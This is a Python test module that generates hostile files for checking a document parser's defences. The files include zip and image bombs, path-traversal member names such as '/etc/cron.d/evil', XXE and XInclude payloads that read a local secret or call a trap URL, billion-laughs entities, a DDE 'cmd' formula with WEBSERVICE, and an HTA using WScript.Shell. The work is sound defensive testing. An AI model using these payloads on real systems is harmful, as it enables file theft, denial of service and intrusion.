"""Make hostile files: bombs, traversal, macros, polyglots, entities, loops. Each is made when asked for, by its name.

`REFUSED` must not come in at all. `HARMLESS` may be read where a reader finds text in it; it then must not have
brought in a file of this machine (`Trap.secret`), nor have connected anywhere (`Trap.url`), nor take long.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

import openpyxl
from PIL import Image
from reportlab.pdfgen.canvas import Canvas

from tests.compound import compound

MEGABYTE = 1024 * 1024
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ODF_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
ODF_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
PDF = b"%PDF-1.7\n"


@dataclass(frozen=True)
class Trap:
    """Hold what a hostile file tries to reach: a file of this machine and a port that counts connections."""

    secret: Path
    url: str


Make = Callable[[Trap], bytes]


def package(members: Mapping[str, bytes | str], *, main: str = "word/document.xml", **flags: int) -> bytes:
    """Return a ZIP that passes for an Office file; `external_attr` and other flags are set on its last member."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for number, (name, data) in enumerate({main: word_xml("Travel is paid."), **members}.items()):
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if number == len(members):
                for flag, value in flags.items():
                    setattr(info, flag, value)
            archive.writestr(info, data)
    return stream.getvalue()


def word_xml(text: str, *, before: str = "") -> str:
    """Return the main part of a Word document, with a document type before it."""
    body = f'<w:body><w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p></w:body>'
    return f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}">{body}</w:document>'


def zipped(members: Mapping[str, bytes]) -> bytes:
    """Return a plain ZIP."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return stream.getvalue()


def matryoshka(levels: int) -> bytes:
    """Return a Word document that holds a package that holds a package, and so on."""
    inner = zipped({"a.txt": b"core"})
    for _ in range(levels):
        inner = zipped({"inner.zip": inner})
    return package({"word/embeddings/a.zip": inner})


def lying(size: int) -> bytes:
    """Return a document whose big member says in both headers that it is of this size."""
    content = b"0123456789abcdef" * 40_000
    data = bytearray(package({"word/media/a": content}))
    real = struct.pack("<I", len(content))
    while (place := data.find(real)) >= 0:
        data[place : place + 4] = struct.pack("<I", size)
    return bytes(data)


def overlapping() -> bytes:
    """Return a document whose directory names the same member a thousand times (Fifield's bomb)."""
    data = package({"word/media/a": bytes(900_000)})
    start = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 4)
    end = data.index(b"PK\x05\x06")
    entry = data[start:end]
    copies = b"".join(
        entry.replace(b"word/media/a", f"word/media/{n:05}"[:12].encode()) for n in range(1_000)
    )
    directory = data[data.index(b"PK\x01\x02") : start] + copies
    tail = bytearray(data[end:])
    tail[8:12] = struct.pack("<HH", 1_001, 1_001)
    tail[12:16] = struct.pack("<I", len(directory))
    return data[: data.index(b"PK\x01\x02")] + directory + bytes(tail)


LAUGH = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 12}'>" for n in range(1, 12))
LAUGHS = f"<!DOCTYPE x [<!ENTITY a0 'ha'>{LAUGH}]>"


def entity(trap: Trap, kind: str) -> str:
    """Return a document type whose entity `x` is a file, a page, or a parameter entity from the network."""
    place = {"file": trap.secret.as_uri(), "net": f"{trap.url}/x", "parameter": f"{trap.url}/x.dtd"}[kind]
    if kind == "parameter":
        return f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{place}"> %p; <!ENTITY x "">]>'
    return f'<!DOCTYPE x [<!ENTITY x SYSTEM "{place}">]>'


def xinclude(trap: Trap) -> str:
    """Return an element that asks for a file."""
    return (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{trap.secret.as_uri()}" parse="text"/>'
    )


def xlsx(change: Callable[[str], str]) -> bytes:
    """Return a workbook of one cell whose sheet is rewritten."""
    stream = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "cell"
    book.save(stream)
    with zipfile.ZipFile(stream) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    members["xl/worksheets/sheet1.xml"] = change(sheet).encode()
    return zipped(members)


def odt(text: str, before: str = "") -> bytes:
    """Return an OpenDocument text."""
    body = f"<office:body><office:text><text:p>{text}</text:p></office:text></office:body>"
    spaces = f'xmlns:office="{ODF_OFFICE}" xmlns:text="{ODF_TEXT}"'
    root = f"<office:document-content {spaces}>{body}</office:document-content>"
    return zipped(
        {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": f"{before}{root}".encode()}
    )


def pptx(trap: Trap) -> bytes:
    """Return a presentation whose slide asks for a file."""
    slide = (
        f'{entity(trap, "file")}<p:sld xmlns:p="p" xmlns:a="a"><a:p><a:r><a:t>&x;</a:t></a:r></a:p></p:sld>'
    )
    target = f'<Relationship Id="r1" Type="{OFFICE}/slide" Target="slides/slide1.xml"/>'
    relation = f"<Relationships>{target}</Relationships>"
    slides = '<p:sldIdLst><p:sldId r:id="r1"/></p:sldIdLst>'
    main = f'<p:presentation xmlns:p="p" xmlns:r="{OFFICE}">{slides}</p:presentation>'
    members = {"ppt/_rels/presentation.xml.rels": relation, "ppt/slides/slide1.xml": slide}
    return package({"ppt/presentation.xml": main, **members}, main="ppt/unused.xml")


def epub(trap: Trap) -> bytes:
    """Return a book whose chapter asks for a file."""
    container = '<container><rootfiles><rootfile full-path="a.opf"/></rootfiles></container>'
    book = '<package><manifest><item id="a" href="a.xhtml"/></manifest><spine><itemref idref="a"/></spine></package>'
    chapter = f"{entity(trap, 'file')}<html><body><p>&x;</p></body></html>"
    return zipped(
        {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": container.encode(),
            "a.opf": book.encode(),
            "a.xhtml": chapter.encode(),
        }
    )


def pdf_of(pages: int) -> bytes:
    """Return a PDF of so many pages."""
    stream = io.BytesIO()
    canvas = Canvas(stream)
    for number in range(pages):
        canvas.drawString(72, 720, f"Page {number}")
        canvas.showPage()
    canvas.save()
    return stream.getvalue()


def looped_pdf() -> bytes:
    """Return a PDF whose tree of pages holds itself."""
    return (
        PDF
        + b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999>>endobj\n"
        b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000056 00000 n \n"
        b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n121\n%%EOF"
    )


def locked_pdf() -> bytes:
    """Return a PDF that needs a password to be opened."""
    from reportlab.lib.pdfencrypt import StandardEncryption

    stream = io.BytesIO()
    canvas = Canvas(stream, encrypt=StandardEncryption("password", "owner"))
    canvas.drawString(72, 720, "secret")
    canvas.save()
    return stream.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, extra: bytes = b"") -> bytes:
    """Return a PNG that claims this size, with chunks before its pixels."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + extra
        + chunk(b"IDAT", zlib.compress(bytes(1_000)))
        + chunk(b"IEND", b"")
    )


def tiff(entries: Mapping[int, int], *, following: int = 0) -> bytes:
    """Return a TIFF of one directory with these numbers; `following` is where the next directory stands."""
    body = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in sorted(entries.items()))
    return struct.pack("<2sHIH", b"II", 42, 8, len(entries)) + body + struct.pack("<I", following)


def saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    """Return the bytes of a picture file."""
    stream = io.BytesIO()
    picture.save(stream, kind, **options)
    return stream.getvalue()


def mail(depth: int = 0, parts: int = 0, name: str = "") -> bytes:
    """Return a message with messages within, with many parts, or with an attachment of this name."""
    message = EmailMessage()
    message["Subject"] = "x"
    message.set_content("Travel is paid.")
    for _ in range(parts):
        message.add_attachment(b"x", maintype="application", subtype="zip", filename="a.zip")
    if name:
        message.add_attachment(b"x", maintype="application", subtype="zip", filename=name)
    for _ in range(depth):
        outer = EmailMessage()
        outer["Subject"] = "x"
        outer.set_content("Travel is paid.")
        outer.add_attachment(message)
        message = outer
    return message.as_bytes()


def deep_mail() -> bytes:
    """Return a message whose parts lie two thousand deep."""
    heads = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(2_000))
    return f"Subject: x\n{heads}\n\ntext".encode()


NAMES = {
    "up": "../../evil",
    "up, for Windows": "..\\..\\evil",
    "up, within": "word/../../evil",
    "absolute": "/etc/cron.d/evil",
    "drive": "C:\\Windows\\evil",
    "share": "\\\\server\\share\\evil",
    "stream": "word/a.xml:evil",
    "NUL": "word/a\x01../evil",
    "reordered": "word/\u202elmx.exe",
    "300 letters": "word/" + "a" * 300,
}


def with_member(name: str) -> Make:
    """Return what makes a document with a member of this name."""
    return lambda _: package({name: b"x"})


def with_attachment(name: str) -> Make:
    """Return what makes a message with an attachment of this name."""
    return lambda _: mail(name=name)


REFUSED: dict[str, Make] = {
    **{f"{key} name.docx": with_member(name) for key, name in NAMES.items()},
    "link.docx": lambda _: package({"word/link": b"/etc/passwd"}, external_attr=(0o120777 << 16)),
    "bomb by ratio.docx": lambda _: package({"word/media/a": bytes(60 * MEGABYTE)}),
    "bomb by ratio.xlsx": lambda _: package({"xl/media/a": bytes(60 * MEGABYTE)}, main="xl/workbook.xml"),
    "bomb by ratio.pptx": lambda _: package({"a": bytes(60 * MEGABYTE)}, main="ppt/presentation.xml"),
    "bomb in the main part.docx": lambda _: package({"word/document.xml": b" " * (40 * MEGABYTE)}),
    "bomb by members.docx": lambda _: package({f"word/{n}": b"" for n in range(10_001)}),
    "bomb that overlaps.docx": lambda _: overlapping(),
    "bomb within.docx": lambda _: package({"word/a.zip": zipped({"a": bytes(90 * MEGABYTE)})}),
    "nested ten deep.docx": lambda _: matryoshka(10),
    "nested four deep.docx": lambda _: matryoshka(3),
    "declares less.docx": lambda _: lying(10),
    "declares more.docx": lambda _: lying(0x7FFFFFFF),
    "macros.docx": lambda _: package({"word/vbaProject.bin": b"x"}),
    "macros.xlsx": lambda _: package({"xl/vbaProject.bin": b"x"}, main="xl/workbook.xml"),
    "macros.pptx": lambda _: package({"ppt/vbaProject.bin": b"x"}, main="ppt/presentation.xml"),
    "old macros.xlsx": lambda _: package({"xl/macrosheets/sheet1.xml": b"x"}, main="xl/workbook.xml"),
    "controls.docx": lambda _: package({"word/activeX/activeX1.bin": b"x"}),
    "macros.docm": lambda _: package({"word/vbaProject.bin": b"x"}),
    "old with macros.doc": lambda _: compound(
        {"Macros": {"VBA": {"_VBA_PROJECT": b"x"}}, "WordDocument": b"x"}
    ),
    "sealed.docx": lambda _: compound({"EncryptedPackage": b"x" * 5_000, "EncryptionInfo": b"x"}),
    "old in new clothes.docx": lambda _: compound({"WordDocument": b"x" * 5_000}),
    "workbook as document.docx": lambda _: xlsx(lambda sheet: sheet),
    "torn.docx": lambda _: package({"a": b"x"})[:200],
    "only a magic.docx": lambda _: b"PK\x03\x04",
    "program.pdf": lambda _: b"\x7fELF\x02\x01\x01" + bytes(5_000),
    "program.txt": lambda _: b"MZ\x90\x00" + bytes(5_000),
    "program.exe": lambda _: b"MZ\x90\x00" + bytes(5_000),
    "page as picture.png": lambda _: b"<html><script>alert(1)</script></html>",
    "PDF as text.txt": lambda _: pdf_of(1),
    "PDF as page.html": lambda _: pdf_of(1) + b"<html>",
    "ZIP as table.csv": lambda _: zipped({"a": b"b"}),
    "text.pdf": lambda _: b"just text",
    "late magic.pdf": lambda _: bytes(2_000) + pdf_of(1),
    "only a magic.pdf": lambda _: PDF,
    "2,001 pages.pdf": lambda _: pdf_of(2_001),
    "locked.pdf": lambda _: locked_pdf(),
    "without a table.pdf": lambda _: PDF + b"1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 9 0 R>>\n%%EOF",
    "torn.pdf": lambda _: pdf_of(3)[:300],
    "loop.pdf": lambda _: looped_pdf(),
    "bomb.png": lambda _: png(50_000, 50_000),
    "bomb of one line.png": lambda _: png(0x7FFFFFFF, 1),
    "bomb of text.png": lambda _: png(
        9, 9, extra=chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(80 * MEGABYTE)))
    ),
    "torn.png": lambda _: png(60, 60)[:40],
    "animation.png": lambda _: saved(Image.new("L", (20, 20)), "GIF"),
    "bomb.jpg": lambda _: saved(Image.new("L", (8, 8)), "JPEG").replace(
        b"\x00\x08\x00\x08", b"\xff\xff\xff\xff", 1
    ),
    "bomb.tif": lambda _: tiff({256: 60_000, 257: 60_000, 258: 8, 262: 1, 273: 8, 277: 1, 278: 1, 279: 9}),
    "loop.tif": lambda _: tiff(
        {256: 20, 257: 20, 258: 8, 262: 1, 273: 8, 277: 1, 278: 20, 279: 400}, following=8
    ),
    "false size.tif": lambda _: tiff({256: 20, 257: 20, 273: 0xFFFFFFF0, 278: 1, 279: 0xFFFFFFF0}),
    "2,001 frames.tif": lambda _: saved(
        Image.new("1", (8, 8)), "TIFF", save_all=True, append_images=[Image.new("1", (8, 8))] * 2_000
    ),
    "NUL.csv": lambda _: b"a,b\n" + b"\0" * 100_000,
    "noise.txt": lambda _: bytes(range(1, 32)) * 1_000,
    "empty.docx": lambda _: b"",
    "blank.md": lambda _: b" \n" * 1_000,
    "no headers.eml": lambda _: b"no header at all",
    "sealed.eml": lambda _: b"Subject: x\nContent-Type: multipart/encrypted; boundary=a\n\n--a--",
    "drawing.svg": lambda trap: f"{entity(trap, 'file')}<svg><text>&x;</text></svg>".encode(),
    "script.hta": lambda _: b"<script>new ActiveXObject('WScript.Shell')</script>",
    "no message.msg": lambda _: compound({"WordDocument": b"x"}),
    "torn.msg": lambda _: compound({"__properties_version1.0": bytes(9_000)})[:1_500],
}

HARMLESS: dict[str, Make] = {
    "entity of a file.docx": lambda trap: package(
        {"word/document.xml": word_xml("&x;", before=entity(trap, "file"))}
    ),
    "entity of a page.docx": lambda trap: package(
        {"word/document.xml": word_xml("&x;", before=entity(trap, "net"))}
    ),
    "parameter entity.docx": lambda trap: package(
        {"word/document.xml": word_xml("&x;", before=entity(trap, "parameter"))}
    ),
    "laughs.docx": lambda _: package({"word/document.xml": word_xml("&a11;", before=LAUGHS)}),
    "include.docx": lambda trap: package({"word/document.xml": word_xml(xinclude(trap))}),
    "template from afar.docx": lambda trap: package(
        {
            "word/_rels/document.xml.rels": f'<Relationships><Relationship Id="a" Type="{OFFICE}/footnotes"'
            f' TargetMode="External" Target="{trap.url}/a.dotm"/></Relationships>'
        }
    ),
    "relation that leads out.docx": lambda trap: package(
        {
            "word/_rels/document.xml.rels": f'<Relationships><Relationship Id="a" Type="{OFFICE}/footnotes"'
            f' Target="../../../../..{trap.secret}"/></Relationships>'
        }
    ),
    "nested cells.docx": lambda _: package(
        {
            "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body>'
            + "<w:tbl><w:tr><w:tc>" * 3_000
            + "</w:tc></w:tr></w:tbl>" * 3_000
            + "</w:body></w:document>"
        }
    ),
    "entity of a file.xlsx": lambda trap: xlsx(
        lambda sheet: entity(trap, "file") + sheet.replace("<v>0</v>", "<v>&x;</v>")
    ),
    "laughs.xlsx": lambda _: xlsx(lambda sheet: LAUGHS + sheet.replace("<v>0</v>", "<v>&a11;</v>")),
    "far cell.xlsx": lambda _: xlsx(
        lambda sheet: sheet.replace('r="1"', 'r="1048576"').replace('"A1"', '"XFD1048576"')
    ),
    "entity of a file.pptx": pptx,
    "entity of a file.odt": lambda trap: odt("&x;", entity(trap, "file")),
    "laughs.odt": lambda _: odt("&a11;", LAUGHS),
    "entity of a file.epub": epub,
    "entity of a file.html": lambda trap: f"{entity(trap, 'file')}<html><p>Travel &x;</p></html>".encode(),
    "frames from afar.html": lambda trap: (
        f'<html><head><link rel="stylesheet" href="{trap.url}/a.css"><base href="{trap.url}"></head><body>'
        f'<img src="{trap.url}/a.png"><iframe src="{trap.secret.as_uri()}"></iframe><p>Travel</p>'
        f'<object data="{trap.url}"></object><embed src="{trap.url}"><video src="{trap.url}"></body></html>'
    ).encode(),
    "deep.html": lambda _: b"<div>" * 50_000 + b"Travel",
    "attributes.html": lambda _: b"<p " + b"a=b " * 200_000 + b">Travel</p>",
    "pictures from afar.md": lambda trap: (
        f"# Travel\n\n![a]({trap.url}/a.png)\n\n<img src='{trap.url}'>".encode()
    ),
    "deep.md": lambda _: b"> " * 20_000 + b"Travel",
    "brackets.md": lambda _: b"[" * 50_000 + b"Travel",
    "include.rst": lambda trap: (
        f"Travel\n\n.. include:: {trap.secret}\n\n.. raw:: html\n   :file: {trap.secret}\n".encode()
    ),
    "include.adoc": lambda trap: (
        f"= Travel\n\ninclude::{trap.secret}[]\n\nimage::{trap.url}/a.png[]\n".encode()
    ),
    "formula.csv": lambda trap: f"a;b\n=cmd|'/c calc'!A0;=WEBSERVICE(\"{trap.url}\")\n".encode(),
    "one long line.csv": lambda _: b"," * 300_000,
    "long word.txt": lambda _: b"a" * (3 * MEGABYTE),
    "50 deep.eml": lambda _: mail(depth=50),
    "10,000 parts.eml": lambda _: mail(parts=10_000),
    "2,000 parts deep.eml": lambda _: deep_mail(),
    "body elsewhere.eml": lambda trap: (
        f"Subject: Travel\nContent-Type: message/external-body; access-type=local-file; name={trap.secret}\n\n"
        "Content-Type: text/plain\n\n"
    ).encode(),
    **{f"{key} name.eml": with_attachment(name) for key, name in NAMES.items()},
}
